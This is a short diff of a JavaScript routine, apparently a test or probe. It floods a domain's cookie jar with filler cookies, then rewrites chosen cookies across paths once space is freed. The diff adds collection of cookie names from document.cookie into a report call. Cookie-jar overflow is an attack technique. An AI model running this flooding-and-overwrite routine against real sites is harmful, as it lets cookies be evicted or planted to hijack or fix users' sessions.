@@ -25,4 +25,5 @@ for (let i = 0; i < Number(flood); i++) write("flood" + i + "=; Domain=" + domai
 for (const [name, value] of Number(flood) ? JSON.parse(cookies) : []) { // once more, now that there is room
   for (const path of JSON.parse(paths)) write(name + "=" + value + "; Domain=" + domain + "; Path=" + path + "; Max-Age=" + age + "; Secure");
 }
-await report({tried: tried + " cookies", flooded: left + " more", kept: kept + " of them"});
+const names = document.cookie.split("; ").map((pair) => pair.split("=")[0]).join(" ");
+await report({names, tried: tried + " cookies", flooded: left + " more", kept: kept + " of them"});
